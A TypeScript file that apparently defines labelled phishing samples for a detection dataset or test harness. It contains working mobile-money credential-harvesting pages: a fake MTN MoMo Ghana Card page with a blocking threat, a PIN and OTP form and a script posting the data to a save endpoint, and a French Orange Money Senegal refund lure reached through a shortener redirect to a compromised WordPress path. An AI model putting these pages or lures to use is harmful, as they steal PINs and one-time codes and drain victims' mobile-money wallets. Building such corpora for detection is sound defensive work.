import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { CSS, LOGO, b64, codes, doc, jsR, rawDoc, tgSend, xorB64, xorDecoder } from '../parts/yv-kit.js';

const momoGh = doc({
  title: 'MTN MoMo - Ghana Card Linking',
  css: `${CSS.reset}body{background:#ffcc00}.w{max-width:420px;margin:0 auto;padding:20px}.p{background:#fff;border-radius:14px;padding:22px;margin-top:14px}${CSS.field}button{width:100%;background:#004f71;color:#fff;border:0;border-radius:8px;padding:14px;margin-top:16px}.d{font-size:12px;color:#444;margin-top:12px}`,
  body: `<div class="w">${LOGO.mtn}&nbsp;${LOGO.momo}
<div class="p"><h2>Link your Ghana Card to MoMo</h2>
<p>In line with the Bank of Ghana directive, all MoMo wallets not linked to a Ghana Card will be <b>blocked</b>. Link yours now to avoid losing access to your funds.</p>
<form id="g"><label>MoMo number</label><input name="msisdn" placeholder="024 XXX XXXX" required>
<label>Full name (as on Ghana Card)</label><input name="nm" required>
<label>Ghana Card number</label><input name="gc" placeholder="GHA-XXXXXXXXX-X" required>
<label>MoMo PIN</label><input name="pin" type="password" maxlength="4" inputmode="numeric" required>
<button>Link Ghana Card</button></form>
<p class="d">MTN Mobile Money Limited is regulated by the Bank of Ghana. Y'ello!</p></div></div>
<script src="https://momo-ghanacard-link.com/js/link.js"></script>`,
});
const momoGhJs = `document.getElementById('g').addEventListener('submit',function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));d.ua=navigator.userAgent;fetch('/gh/save.php',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(d)}).then(function(){location.href='/gh/otp.html?m='+encodeURIComponent(d.msisdn);});});`;
const momoGhOtp = rawDoc('MTN MoMo - Verify', `<div style="font-family:Arial;max-width:380px;margin:40px auto;background:#fff;padding:20px;border:4px solid #ffcc00">${LOGO.momo}<h3>Verify it's you</h3><p>Enter the 6-digit code sent by MTN to your MoMo number. If you received a prompt, approve it.</p><form action="/gh/save.php" method="post"><input name="otp" maxlength="6" style="width:100%;padding:10px"><button style="margin-top:10px;background:#004f71;color:#fff;border:0;padding:10px 22px">Verify</button></form></div>`);

const omSn = doc({
  title: 'Orange Money - Remboursement',
  lang: 'fr',
  css: `${CSS.reset}body{background:#f4f4f4}.b{max-width:400px;margin:30px auto;background:#fff;padding:22px;border-top:6px solid #ff7900}${CSS.field}button{width:100%;background:#ff7900;border:0;color:#fff;padding:13px;margin-top:16px;font-weight:700}`,
  body: `<div class="b">${LOGO.orange}<h2>Remboursement en attente</h2>
<p>Un transfert de <b>47 500 FCFA</b> effectué par erreur vers votre numéro est en cours d'annulation. Pour recevoir le remboursement des frais, veuillez confirmer votre compte Orange Money Sénégal.</p>
<form method="post" action="/sn/rembourser.php"><label>Numéro (+221)</label><input name="msisdn" required><label>Code secret</label><input type="password" name="pin" maxlength="4" required><label>Code de confirmation reçu par SMS</label><input name="otp" maxlength="6"><button>Valider</button></form></div>`,
});

export const entries: Entry[] = [
  {
  id: 'yv-mtn-momo-ghanacard-link',
  label: 'phishing',
  kind: 'mobile-money-pin-kit',
  url: 'https://momo-ghanacard-link.com/gh/',
  body: momoGh,
  routes: {
    'momo-ghanacard-link.com/js/link.js': jsR(momoGhJs),
    'momo-ghanacard-link.com/gh/otp.html': htmlRoute(momoGhOtp),
  },
},
  {
  id: 'yv-orange-money-sn-refund-redirect',
  label: 'phishing',
  kind: 'mobile-money-pin-kit',
  url: 'https://om-sn.short-lien.top/Rb92x',
  routes: {
    'om-sn.short-lien.top/Rb92x': redirectRoute(301, 'https://dakar-immobilier-conseil.sn/wp-content/plugins/om/index.php'),
    'dakar-immobilier-conseil.sn/wp-content/plugins/om/index.php': htmlRoute(omSn),
  },
},
];
